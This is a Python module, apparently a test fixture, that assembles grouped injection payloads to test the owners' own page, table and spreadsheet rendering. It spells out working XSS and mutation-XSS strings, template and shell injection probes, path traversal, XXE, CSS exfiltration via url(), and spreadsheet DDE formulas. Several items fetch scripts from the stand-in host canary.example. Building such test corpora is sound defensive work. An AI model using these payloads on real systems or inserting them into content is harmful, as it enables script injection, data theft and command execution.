"""Texts that an article, an outlet or a parameter could hold to break a page, a table or a spreadsheet; our own, in groups.

Each group is a few forms times a few frames, so that a filter that knows one spelling is met by others. What a text would do if it worked can
be seen from outside: `ran` becomes a name of the window, a dialog opens, or HOST is asked for something.
"""

from __future__ import annotations

from itertools import product

HOST = "canary.example"
RUN = "ran=1;alert(1)"
URL = f"https://{HOST}/x"


def _crossed(forms: tuple[str, ...], frames: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(frame.replace("@@", form) for form, frame in product(forms, frames))


_ELEMENTS = (
    f"<script>{RUN}</script>", f"<script src={URL}.js></script>", f"<img src=x onerror={RUN}>", f"<img src={URL}.png>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<iframe src=javascript:{RUN}></iframe>", f'<iframe srcdoc="<script>parent.{RUN}</script>">', f"<style>@import '{URL}.css';</style>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<form action={URL}><button>x",
)  # fmt: skip
_AROUND = ("@@", "'\">@@", "</script>@@", "<!--@@", "]]>@@", "</title></style></textarea></a></li></p>@@")
_HANDLERS = (
    f'<body onload="{RUN}">', f'<b onmouseover="{RUN}">x', f"<p onclick={RUN}>x", f"<a href=# onfocus={RUN} autofocus>x", f"<select onfocus={RUN} autofocus>",
    f"<video><source onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>", f"<object onerror={RUN} data=x>", f"<p tabindex=1 onfocusin={RUN}>",
    f"<xss onanimationstart={RUN} style=animation-name:x>", f"<body onhashchange={RUN}>", f"<div oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>",
    f'" onmouseover="{RUN}" x="', f"' onfocus='{RUN}' autofocus x='", f"` onerror=`{RUN}`", f"x onerror={RUN} ", f"/onload={RUN}//", f"\fonload={RUN}\f", f"x\"/onclick='{RUN}'/",
)  # fmt: skip
_SCHEMES = tuple(f"{scheme}{RUN}" for scheme in (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;", "&#106;avascript:", "&#x6a;avascript:", "javascript://x%0a",
    "vbscript:", "view-source:javascript:", "feed:javascript:", "jar:javascript:", "livescript:", "mocha:", "javascript\u200b:", "javascript\u2028:",
))  # fmt: skip
_DATA = (
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={RUN}>", f"data:text/javascript,{RUN}",
    f"data:application/xhtml+xml,<x onclick={RUN}>", f"DATA:text/html,<img src={URL}>", "data:,x", "blob:null/x", "filesystem:file:///x", "file:///etc/hostname",
    "intent://x#Intent;end", "ms-word:ofe|u|x", f"//{HOST}/x", f"\\\\{HOST}\\x", f"https:{HOST}", f"https://{HOST}@127.0.0.1/", f"https://x\\.{HOST}/", f"https://[{HOST}]/",
    f'{URL}" onclick="{RUN}', f"{URL}' style='x", f"{URL}><img src=x onerror={RUN}>", f"{URL}\r\nSet-Cookie: a=b", f"http://{HOST}:99999/", "https://",
)  # fmt: skip
_LINKS = tuple(f'<a href="{address}">x</a>' for address in (*_SCHEMES[:9], *_DATA[:6]))
_SVG = (
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN}>", f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><use href='{URL}.svg#x'/></svg>", f"<svg><image href='{URL}.png'/></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style>*{{background:url({URL})}}</style></svg>", f"<svg><feImage href='{URL}'/></svg>", f"<svg><desc><img src=x onerror={RUN}></desc></svg>", f"</text></svg><img src=x onerror={RUN}>",
    f"<?xml-stylesheet href='{URL}.xsl'?>", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{URL}'>]>&e;", f"<![CDATA[<img src=x onerror={RUN}>]]>", "$\\href{javascript:ran=1}{x}$", "$x^{2}$ \\frac{1}{0", "$$$",
)  # fmt: skip
_MUTATED = (  # harmless until a parser writes them out and another one reads them
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>", f"<textarea></textarea><img src=x onerror={RUN}>", f"<plaintext><img src=x onerror={RUN}>", f"<select><template><img src=x onerror={RUN}>",
    f"<table><td><select><img src=x onerror={RUN}>", f"<annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml>", f"<img src='a`b' alt='``onerror={RUN}'>",
    f"<div is=x><template shadowrootmode=open><img src=x onerror={RUN}></template></div>", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<img/src/onerror={RUN}>", f"<ſcript>{RUN}</ſcript>",
)  # fmt: skip
_CSS = (
    f"x;background:url({URL})", f"red}}*{{background:url({URL})", f"expression({RUN})", f"</style><link rel=stylesheet href={URL}>", f"@import url({URL});", f"*{{content:url({URL})}}",
    f"<p style='background:url({URL})'>x", "<p style=position:fixed;inset:0;z-index:99>x", "<style>*{display:none}</style>", f"@font-face{{font-family:x;src:url({URL})}}", "\\65xpression(1)", f"url('{URL}",
)  # fmt: skip
_PAGE = (
    f"<meta http-equiv=refresh content='0;url={URL}'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", '<meta http-equiv="Content-Security-Policy" content="script-src *">', f"<base href={URL}/>",
    "<base target=_blank>", f"<link rel=prefetch href={URL}>", f"<link rel=dns-prefetch href=//{HOST}>", f"<link rel=import href={URL}>", f"<embed src={URL}>", f"<object data={URL}></object>",
    f"<frameset onload={RUN}>", f"<applet code={URL}>", "<meta charset=utf-7>", f"<portal src={URL}>", f"<img srcset={URL}>", f"<a ping={URL} href=#>x</a>", "</body></html>", "<body><main id=content>", "<p id=records>", "<p id=results>",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7 * 7 }}", "{{7*'7'}}", "{% raw %}{{x}}{% endraw %}", "{% include '/etc/passwd' %}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{# x #}", "#{7*7}", "${7*7}", "<%= 7*7 %>", "${{7*7}}", "@(7*7)", "[[7*7]]",
    "%(name)s", "{0}", "{title.__class__}", "{!r}", "$title", "%s%n%x", "`id`", "$(id)", "; id", "| id", "../../../etc/passwd", "..\\..\\x", "C:\\x", "con.csv", "a/b", "a\\b", ".", "..",
)  # fmt: skip
_MARKDOWN = (
    f"[x](javascript:{RUN})", f"![x]({URL}.png)", f"<{URL}>", f"[x]: {URL}", "# heading", "***", "~~~html", "```", "| a | b |\n|---|---|", "&lt;script&gt;", "- [ ] x", f"[x]({URL} \"'><img src=x onerror={RUN}>\")",
)  # fmt: skip
_JSON = (
    f'"}};{RUN}//', f"'}};{RUN}//", f'"]}}</script><script>{RUN}</script>', "\\", '\\"', "\\u003c/script>", "</script", "</SCRIPT >", "<!--<script>", "-->", f"\u2028{RUN}\u2029", f"*/{RUN}/*", "__proto__", "constructor", "toString",
    "hasOwnProperty", "null", "true", "NaN", "1e999", "[object Object]", "\\x3cscript\\x3e", "'+ran=1+'", '"+ran=1+"', f"`${{{RUN}}}`", "undefined",
)  # fmt: skip
_ENTITIES = (
    "&lt;b&gt;", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", "&#x3c;b&#x3e;", "&amp;lt;b&amp;gt;", "&", "&;", "&#0;", "&#xD800;", "&#x110000;", "&nbsp;", "&copy", "&lt", "&NotEqualTilde;", "%3Cscript%3E", "%253Cscript%253E",
)  # fmt: skip
_BYTES = (  # how old filters were passed by: UTF-7, overlong UTF-8 read as Latin-1, full-width and look-alike signs, bytes that no text has
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", "+/v8-x", "\u00c0\u00bcscript\u00c0\u00be", "\u00e0\u0080\u00bcb", f"＜script＞{RUN}＜/script＞", f"‹script›{RUN}", f"\u02bascript\u02ba{RUN}", "\x1b$B<script>\x1b(B", "\ufffd", "\ufffe", "\ud7ff\U0001f4a3",
    "\x00", f"<scr\x00ipt>{RUN}</scr\x00ipt>", "\x00<b>", "a\x00b", "\x08\x08\x08", "\x1b[31mred\x1b[0m", "\x07", "\x7f", "\x85", "\ufeff<b>", f"<\x0bimg src=x onerror={RUN}>",
)  # fmt: skip
_HIDDEN = (
    "\u202efdp.exe", "a\u202eb\u202cc", "\u2066x\u2069", "\u2067\u2066", "\u061cx", "\u200f42", "\u200e", "\u202a\u202b\u202c\u202d", "1\u202e75\u202c1", "zero\u200bwidth", "\u200c\u200d", "\u2060", "\u00adsoft", "\U000e0041\U000e0042", "\u180e",
    "\ufff9a\ufffab\ufffb", "קתמ157", "157 قتيلا", "\u2028", "\u2029", "Z" + "\u0300" * 60, "﷽" * 8, "\U0001f469\u200d\U0001f4bb", "\u3164", "\u115f",
)  # fmt: skip
_LONG = (
    "x" * 10_000,
    "٧" * 5_000,
    "<b>" * 2_000,
    "&" * 4_000,
    "/" * 3_000,
    "=" * 3_000,
    "a\u00ad" * 2_000,
    "𓀀" * 2_000,
)
_CELLS = (
    "=1+1", "=HYPERLINK(\"https://canary.example\",\"x\")", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://canary.example\")", "=IMPORTXML(\"https://canary.example\",\"//a\")", "=IMAGE(\"https://canary.example\")",
    "+1+1", "+cmd|' /C calc'!A0", "-2+3", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "@x", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\u3000=1+1", "\ufeff=1+1", "\x00=1+1", "\x0b=1+1", "\x1f=1+1", "\x85=1+1", "\u2028=1+1",
    "\u202e=1+1", "＝1+1", "＋1", "－2", "＠SUM(A1)", "−5", "﹦1+1", "﹢1", "﹣1", "﹫x", "'=1+1", "''", "'", "\"=1+1\"", "\",=1+1,\"", ";=1+1", "x;=1+1", "x\t=1+1", "x\n=1+1", "|calc", "%0A=1+1", "=", "-", "+", "@",
    "=1+1\",\"=1+1", "=\u200bcmd", "\u2060=1", "\u00ad=1", "\\=1+1", "\\t=1+1", "0157", "1e5", "157E2", "1/2", "3-4", "2017-03-21", "TRUE",
)  # fmt: skip

GROUPS: dict[str, tuple[str, ...]] = {
    "script": _crossed(_ELEMENTS, _AROUND), "handlers": _HANDLERS, "schemes": _SCHEMES, "addresses": _DATA, "links": _LINKS, "svg": _SVG, "mutated": _MUTATED, "css": _CSS,
    "page": _PAGE, "templates": _TEMPLATES, "markdown": _MARKDOWN, "json": _JSON, "entities": _ENTITIES, "bytes": _BYTES, "hidden": _HIDDEN, "long": _LONG, "cells": _CELLS,
}  # fmt: skip
PAYLOADS = tuple(dict.fromkeys(each for group in GROUPS.values() for each in group))
CELLS = GROUPS["cells"]
